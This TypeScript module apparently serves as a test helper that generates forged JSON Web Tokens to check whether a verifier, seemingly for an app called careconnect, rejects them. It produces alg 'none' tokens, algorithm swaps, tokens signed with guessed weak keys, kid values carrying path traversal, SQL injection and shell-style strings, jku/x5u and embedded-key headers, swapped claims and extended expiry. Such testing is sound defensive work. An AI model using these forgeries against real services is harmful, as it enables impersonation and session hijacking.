import { createHmac, generateKeyPairSync, sign, type KeyObject } from 'node:crypto';

export interface Forgery {
  readonly what: string;
  readonly token: string;
}

type Header = Readonly<Record<string, unknown>>;

const HS256 = { alg: 'HS256', typ: 'JWT' };
const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const decode = (part: string) => JSON.parse(Buffer.from(part, 'base64url').toString('utf8')) as object;

/**
 * What people make of a token of their own who want to be somebody else, or to stay for ever (RFC 8725 section 2).
 * @param own - a good token
 * @param other - another person's, whose signature is not known
 */
export function forgeTokens(own: string, other: string): Forgery[] {
  const [header = '', claims = '', signature = ''] = own.split('.');
  const [, otherClaims = ''] = other.split('.');
  const later = encode({ ...decode(claims), exp: Math.floor(Date.now() / 1000) + 31_536_000 });
  return [
    ...otherAlgorithms(claims, signature),
    ...guessedKeys(header, claims),
    ...keysByHeader(claims),
    ...keysBroughtAlong(claims),
    { what: 'claims of another under the own signature', token: `${header}.${otherClaims}.${signature}` },
    { what: 'a later end under the old signature', token: `${header}.${later}.${signature}` },
    { what: 'no signature', token: `${header}.${claims}.` },
    { what: 'half a signature', token: `${header}.${claims}.${signature.slice(0, 20)}` },
    { what: 'a longer signature', token: `${header}.${claims}.${signature}AAAA` },
    { what: 'five parts', token: `${header}.${claims}.${signature}.${claims}.${signature}` },
    { what: 'two parts', token: `${header}.${claims}` },
    { what: 'the claims alone', token: claims },
    { what: 'as JSON', token: encode({ payload: claims, signatures: [{ protected: header, signature }] }) },
    { what: 'a NUL behind it', token: `${own}%00` },
    { what: 'very long', token: `${header}.${'A'.repeat(7_000)}.${signature}` },
  ];
}

function otherAlgorithms(claims: string, signature: string): Forgery[] {
  const unsigned = ['none', 'None', 'NONE', 'nOnE', ''].map((alg) => ({
    what: `alg ${JSON.stringify(alg)} without a signature`,
    token: `${encode({ ...HS256, alg })}.${claims}.`,
  }));
  const renamed = ['none', 'HS384', 'HS512', 'RS256', 'ES256', 'PS256', 'EdDSA'].map((alg) => ({
    what: `said to be ${alg}`,
    token: `${encode({ ...HS256, alg })}.${claims}.${signature}`,
  }));
  return [...unsigned, ...renamed];
}

function guessedKeys(header: string, claims: string): Forgery[] {
  const keys = ['', 'secret', 'null', 'undefined', 'careconnect', header, claims];
  return keys.map((key) => ({ what: `signed with "${key.slice(0, 12)}"`, token: hmac(HS256, claims, key) }));
}

/** Headers by which some verifiers let the token say which key it is to be verified with, and how. */
function keysByHeader(claims: string): Forgery[] {
  const kids = [
    '../../../../dev/null',
    '/proc/sys/kernel/randomize_va_space',
    "' UNION SELECT ''--",
    '|| true',
    '1',
  ];
  const fields: Header[] = [
    ...kids.map((kid) => ({ kid })),
    { jku: 'http://127.0.0.1:1/keys.json' },
    { x5u: 'http://127.0.0.1:1/cert.pem' },
    { crit: ['exp'] },
    { b64: false, crit: ['b64'] },
    { zip: 'DEF' },
  ];
  return fields.map((field) => ({
    what: `a header with ${JSON.stringify(field)}`,
    token: hmac({ ...HS256, ...field }, claims, ''),
  }));
}

/** Signed rightly, by a key that the token brings along. */
function keysBroughtAlong(claims: string): Forgery[] {
  const pairs = {
    RS256: generateKeyPairSync('rsa', { modulusLength: 2048 }),
    ES256: generateKeyPairSync('ec', { namedCurve: 'P-256' }),
    EdDSA: generateKeyPairSync('ed25519'),
  };
  return Object.entries(pairs).map(([alg, { publicKey, privateKey }]) => {
    const signed = `${encode({ alg, typ: 'JWT', jwk: publicKey.export({ format: 'jwk' }) })}.${claims}`;
    const token = `${signed}.${signatureBy(alg, privateKey, signed)}`;
    return { what: `${alg} with its key in the header`, token };
  });
}

function hmac(header: Header, claims: string, key: string): string {
  const signed = `${encode(header)}.${claims}`;
  return `${signed}.${createHmac('sha256', key).update(signed).digest('base64url')}`;
}

function signatureBy(alg: string, key: KeyObject, signed: string): string {
  const options = alg === 'ES256' ? { key, dsaEncoding: 'ieee-p1363' as const } : key;
  return sign(alg === 'EdDSA' ? null : 'sha256', Buffer.from(signed), options).toString('base64url');
}
